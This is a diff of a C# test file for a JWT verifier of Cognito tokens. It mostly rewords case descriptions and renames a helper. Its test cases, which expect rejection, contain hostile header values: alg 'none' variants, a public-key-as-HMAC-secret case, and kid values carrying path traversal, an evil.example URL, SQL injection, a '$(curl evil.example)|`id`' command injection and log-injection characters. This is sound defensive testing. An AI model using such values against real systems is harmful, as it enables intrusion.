@@ -7,7 +7,7 @@ using static CognitoM2M.Verification.TokenRejectionReason;
 
 namespace CognitoM2M.Verification.Tests.Verdicts;
 
-/// <summary>What the header says: algorithm, key id, and keys that a token brings with it.</summary>
+/// <summary>The header: algorithm, key id, and keys that the token itself contains.</summary>
 internal static class HeaderCases
 {
     public static IEnumerable<VerdictCase> All() => [.. Algorithms(), .. PublicKeyAsSecret(), .. KeyIds(), .. EmbeddedKeys(), .. Extensions()];
@@ -18,7 +18,7 @@ internal static class HeaderCases
         foreach (var none in (string[])["none", "None", "NONE", "nOnE", ""])
             yield return new($"alg: '{none}', with a signature by RS256", TestToken.Create(TestToken.Header.WithText("alg", none), TestToken.Payload), AlgorithmNotAllowed);
         foreach (var alg in (string[])["rs256", "Rs256", "RS256 ", " RS256", "RS256\0", "RS-256", "SHA256withRSA", "http://www.w3.org/2001/04/xmldsig-more#rsa-sha256", "RSA1_5", "__proto__"])
-            yield return new($"alg: {Printable(alg)}, with a signature by RS256", TestToken.Create(TestToken.Header.WithText("alg", alg), TestToken.Payload), AlgorithmNotAllowed);
+            yield return new($"alg: {FormatPrintable(alg)}, with a signature by RS256", TestToken.Create(TestToken.Header.WithText("alg", alg), TestToken.Payload), AlgorithmNotAllowed);
         foreach (var raw in (string[])["256", "null", "true", "[\"RS256\"]", "{\"RS256\":1}"])
             yield return new($"alg: {raw}", TestToken.Create(TestToken.Header.With("alg", raw), TestToken.Payload), HeaderNotValid);
         yield return new("alg: missing", TestToken.Create(TestToken.Header.Without("alg"), TestToken.Payload), AlgorithmNotAllowed);
@@ -35,7 +35,7 @@ internal static class HeaderCases
             var token = SignedBy(alg, data => TestKey.Access.Rsa.SignData(data, hash, padding));
             yield return new VerdictCase($"alg: {alg} by the pool's key", token, AlgorithmNotAllowed);
             yield return new VerdictCase($"alg: {alg} by the pool's key, which names no alg", token, AlgorithmNotAllowed) { KeySet = anyAlgorithm }
-                .Stricter("a key without alg is good for every algorithm of its kty", awsJwtVerify: alg.StartsWith("RS", StringComparison.Ordinal));
+                .Stricter("uses a key without alg for every algorithm of its kty", awsJwtVerify: alg.StartsWith("RS", StringComparison.Ordinal));
             yield return new($"alg: RS256 named, but {alg} is what signed it", SignedBy("RS256", data => TestKey.Access.Rsa.SignData(data, hash, padding)), SignatureNotValid);
         }
 
@@ -54,7 +54,7 @@ internal static class HeaderCases
         };
     }
 
-    /// <summary>The classic: what everybody may know is used as the secret of an HMAC.</summary>
+    /// <summary>A well-known attack: the public key, which everybody can read, is used as the secret of an HMAC.</summary>
     private static IEnumerable<VerdictCase> PublicKeyAsSecret()
     {
         var key = TestKey.Access;
@@ -86,7 +86,7 @@ internal static class HeaderCases
     private static IEnumerable<VerdictCase> KeyIds()
     {
         yield return new VerdictCase("kid: missing", TestToken.Create(TestToken.Header.Without("kid"), TestToken.Payload), KeyIdMissing) { KeySet = TestKey.CreateKeySet(TestKey.Access) }
-            .Stricter("a key set with one key leaves no doubt; Cognito's tokens always name theirs", jose: true);
+            .Stricter("uses the only key of the key set; Cognito's tokens always name their key", jose: true);
         yield return new VerdictCase("kid: missing, with two keys to choose from", TestToken.Create(TestToken.Header.Without("kid"), TestToken.Payload), KeyIdMissing);
         yield return new VerdictCase("kid: empty", TestToken.Create(TestToken.Header.WithText("kid", ""), TestToken.Payload), KeyIdMissing);
         foreach (var raw in (string[])["1", "null", "true", "[\"access-key\"]", "{}"])
@@ -98,15 +98,15 @@ internal static class HeaderCases
         {
             ("unknown", "nobody"),
             ("of a key that was withdrawn", TestKey.OtherPool.Id),
-            ("in other case", "ACCESS-KEY"),
-            ("with a space behind", "access-key "),
-            ("with a NUL behind", "access-key\0"),
-            ("the begin of a known one", "access"),
+            ("in another case", "ACCESS-KEY"),
+            ("with a space at the end", "access-key "),
+            ("with a NUL at the end", "access-key\0"),
+            ("the start of a known one", "access"),
             ("a path", "../../../../dev/null"),
             ("an address", "https://evil.example/key.json"),
             ("SQL", "x' UNION SELECT 'key' --"),
             ("a command", "$(curl evil.example)|`id`"),
-            ("lines that look like a log's", "x\r\n2026-01-01 INFO token accepted\u001b[2J\u2028\u0085"),
+            ("lines that look like a log", "x\r\n2026-01-01 INFO token accepted\u001b[2J\u2028\u0085"),
             ("ten thousand characters", new string('k', 10_000)),
             ("__proto__", "__proto__"),
             ("constructor", "constructor"),
@@ -115,14 +115,12 @@ internal static class HeaderCases
             yield return new VerdictCase($"kid: {name}", TestToken.Create(TestToken.Header.WithText("kid", kid), TestToken.Payload), KeyNotFound);
         }
 
-        yield return new("kid: of another key of the pool", TestToken.Create(TestToken.CreateHeader(TestKey.Next), TestToken.Payload), SignatureNotValid)
-        {
-        };
-        yield return new("kid: a path, and published so", TestToken.Create(TestToken.Header.WithText("kid", "../../dev/null"), TestToken.Payload), null)
+        yield return new("kid: of another key of the pool", TestToken.Create(TestToken.CreateHeader(TestKey.Next), TestToken.Payload), SignatureNotValid);
+        yield return new("kid: a path that is also in the key set", TestToken.Create(TestToken.Header.WithText("kid", "../../dev/null"), TestToken.Payload), null)
         {
             KeySet = TestKey.CreateKeySet(TestKey.Access.Jwk.WithText("kid", "../../dev/null")),
         };
-        yield return new("kid: as Cognito's are, in base64", TestToken.Create(TestToken.Header.WithText("kid", "XkT1Y+5vZf/0s0m3b6Jt9wQ2pN4="), TestToken.Payload), null)
+        yield return new("kid: in base64, as Cognito writes it", TestToken.Create(TestToken.Header.WithText("kid", "XkT1Y+5vZf/0s0m3b6Jt9wQ2pN4="), TestToken.Payload), null)
         {
             KeySet = TestKey.CreateKeySet(TestKey.Access.Jwk.WithText("kid", "XkT1Y+5vZf/0s0m3b6Jt9wQ2pN4=")),
         };
@@ -152,7 +150,7 @@ internal static class HeaderCases
 
     private static IEnumerable<VerdictCase> Extensions()
     {
-        const string IgnoresCrit = "does not look at crit, though RFC 7515, section 4.1.11, demands it";
+        const string IgnoresCrit = "ignores crit, although RFC 7515, section 4.1.11, requires to reject unknown extensions";
         foreach (var crit in (string[])["[\"exp\"]", "[\"b64\"]", "[\"alg\"]", "[]", "null", "\"exp\"", "{}"])
         {
             yield return new VerdictCase($"extension: crit {crit}", TestToken.Create(TestToken.Header.Append("exp", "1").Append("crit", crit), TestToken.Payload), CriticalHeaderNotSupported)
@@ -162,7 +160,7 @@ internal static class HeaderCases
         yield return new VerdictCase(
             "extension: b64 true and critical", TestToken.Create(TestToken.Header.Append("b64", "true").Append("crit", "[\"b64\"]"), TestToken.Payload), CriticalHeaderNotSupported)
             .Stricter(IgnoresCrit, awsJwtVerify: true)
-            .Stricter("knows b64, by which the payload is as usual", jose: true);
+            .Stricter("supports b64; with the value true the payload is the usual one", jose: true);
         yield return new VerdictCase(
             "extension: b64 false and critical", TestToken.Create(TestToken.Header.Append("b64", "false").Append("crit", "[\"b64\"]"), TestToken.Payload), CriticalHeaderNotSupported)
             .Stricter(IgnoresCrit, awsJwtVerify: true);
@@ -174,14 +172,14 @@ internal static class HeaderCases
             Encoding.UTF8.GetBytes(TestToken.Header.Append("zip", "\"DEF\"").ToString()), Deflated(TestToken.Payload.ToString())), PayloadNotValid);
         foreach (var typ in (string[])["\"JWT\"", "\"at+jwt\"", "\"application/at+jwt\"", "\"\""])
             yield return new($"extension: typ {typ}", TestToken.Create(TestToken.Header.Append("typ", typ), TestToken.Payload), null);
-        yield return new("extension: members unknown to us", TestToken.Create(TestToken.Header.Append("cty", "\"x\"").Append("x", "{\"y\":[]}").Append("enc", "\"A256GCM\""), TestToken.Payload), null);
+        yield return new("extension: unknown members", TestToken.Create(TestToken.Header.Append("cty", "\"x\"").Append("x", "{\"y\":[]}").Append("enc", "\"A256GCM\""), TestToken.Payload), null);
     }
 
     private static string SignedBy(string alg, Func<byte[], byte[]> sign) => TestToken.AppendSignature(Text(TestToken.Header.WithText("alg", alg)), sign);
 
     private static string Text(RawObject header) => $"{TestToken.Encode(header.ToString())}.{TestToken.Encode(TestToken.Payload.ToString())}";
 
-    private static string Printable(string text) => $"'{text.Replace("\0", "\\0", StringComparison.Ordinal)}'";
+    private static string FormatPrintable(string text) => $"'{text.Replace("\0", "\\0", StringComparison.Ordinal)}'";
 
     private static byte[] Deflated(string text)
     {
